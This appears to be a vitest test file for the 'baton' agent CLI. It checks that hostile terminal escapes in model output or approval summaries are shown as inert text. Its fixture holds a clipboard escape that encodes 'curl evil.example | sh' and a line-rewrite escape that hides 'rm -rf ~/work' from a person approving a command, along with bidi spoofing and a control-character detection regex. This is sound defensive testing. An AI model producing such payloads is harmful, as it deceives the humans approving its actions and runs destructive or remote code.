import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openSqliteStore } from '../src/store/index.js';
import { runCli } from './support/cli.js';
import { agentRecord } from './support/records.js';

const dir = mkdtempSync(join(tmpdir(), 'baton-hostile-output-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const env = { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: dir, BATON_DATA_DIR: join(dir, 'data') };

/**
 * What a model (or a web page it read) can put in a result or a tool call: terminal escapes that write
 * the clipboard (OSC 52), retitle the window, erase and rewrite the line (so a person approving a
 * command reads another one), the 8-bit CSI, and bidi overrides that reorder what is shown.
 */
const hostile = {
  clipboard: '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007',
  title: '\u001b]0;owned\u001b\\',
  rewrite: 'rm -rf ~/work\u001b[2K\r\u001b[1Gls -la',
  csi8: '\u009b2J',
  bidi: 'approve \u202eexe.ssap\u202c',
};
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const controls = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

beforeAll(async () => {
  const store = openSqliteStore({ dataDir: env.BATON_DATA_DIR });
  const text = Object.values(hostile).join(' ');
  await store.saveRun({
    id: 'run-h',
    workflowName: `wf${hostile.title}`,
    tenant: 'default',
    workflow: { version: 1, name: 'wf', phases: [] },
    status: 'failed',
    createdAt: 1_700_000_000_000,
    priority: 0,
  });
  await store.saveAgent(agentRecord({ runId: 'run-h', id: 'talker', status: 'succeeded', output: { text } }));
  await store.saveAgent(
    agentRecord({
      runId: 'run-h',
      id: 'crasher',
      status: 'failed',
      error: { code: 'BATON_AGENT_CRASHED', message: text },
    }),
  );
  await store.saveApproval({
    id: 'req-1',
    kind: 'tool',
    runId: 'run-h',
    agentId: 'talker',
    tool: 'Bash',
    summary: `Bash: ${hostile.rewrite} ${hostile.bidi}`,
    requestedAt: Date.now(),
    deadline: Date.now() + 3_600_000,
    onTimeout: 'deny',
    status: 'pending',
  });
  await store.close();
});

describe("text a model wrote reaches the terminal as text, never as the terminal's controls", () => {
  it.each([
    [['status', 'run-h']],
    [['status', 'run-h', '--agent', 'talker']],
    [['status', 'run-h', '--agent', 'crasher']],
    [['runs']],
    [['approvals']],
    [['dashboard', 'run-h', '--once']],
  ])(
    'baton %j',
    async (args) => {
      const { code, stdout, stderr } = await runCli(args, { env });
      expect(code).toBe(0);
      expect(stdout + stderr).not.toMatch(controls);
    },
    60_000,
  );

  it('shows the controls as escapes, and --json keeps the exact text', async () => {
    const approvals = await runCli(['approvals'], { env });
    expect(approvals.stdout).toContain('rm -rf ~/work\\u001b[2K\\r\\u001b[1Gls -la');
    const json = await runCli(['approvals', '--json'], { env });
    expect(json.stdout).not.toMatch(controls);
    expect((JSON.parse(json.stdout) as Array<{ summary: string }>)[0]!.summary).toContain(hostile.rewrite);
  }, 60_000);
});
